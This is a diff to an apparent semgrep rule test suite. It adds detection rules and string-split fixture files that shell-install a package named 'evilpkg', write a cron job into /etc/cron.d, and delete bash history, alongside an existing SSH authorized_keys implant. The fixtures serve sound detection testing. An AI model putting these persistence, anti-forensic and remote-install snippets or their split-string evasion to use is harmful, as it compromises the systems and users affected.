@@ -28,10 +28,18 @@ RULES = {
     "trigger-rank-conditional-sabotage": "triggered-sabotage",
     "trigger-host-user-conditional-sabotage": "triggered-sabotage",
     "persist-ssh-key-implant": "persistence-antiforensics",
+    "remote-runtime-pip-install": "remote-code",
+    "persist-scheduled-task": "persistence-antiforensics",
+    "persist-shell-history-tamper": "persistence-antiforensics",
 }
 # An anchor there could not be sound: semgrep folds constant variables and
 # f-strings of them into the string the rule matches (session 8).
-UNANCHORED = {"persist-ssh-key-implant"}
+UNANCHORED = {
+    "persist-ssh-key-implant",
+    "remote-runtime-pip-install",
+    "persist-scheduled-task",
+    "persist-shell-history-tamper",
+}
 
 # file name -> source; `# ruleid: <id>[, <id>]` marks the line after it.
 ATTACKS = {
@@ -195,6 +203,39 @@ def implant(key):
     # ruleid: persist-ssh-key-implant
     with open(os.path.expanduser(f"{d}{k}_keys"), "a") as fh:
         fh.write(key)
+""",
+    "pip_install_fstring.py": """
+import subprocess
+
+A = "pi"
+B = "p ins"
+C = "tall"
+
+
+def setup():
+    # ruleid: remote-runtime-pip-install, exec-subprocess-shell
+    subprocess.run(f"{A}{B}{C} evilpkg", shell=True)
+""",
+    "cron_fstring.py": """
+A = "/etc/cr"
+B = "on.d/job"
+
+
+def plant(line):
+    # ruleid: persist-scheduled-task
+    with open(f"{A}{B}", "w") as fh:
+        fh.write(line)
+""",
+    "history_fstring.py": """
+import os
+
+A = "~/.bash_hi"
+B = "story"
+
+
+def wipe():
+    # ruleid: persist-shell-history-tamper
+    os.remove(os.path.expanduser(f"{A}{B}"))
 """,
 }
 
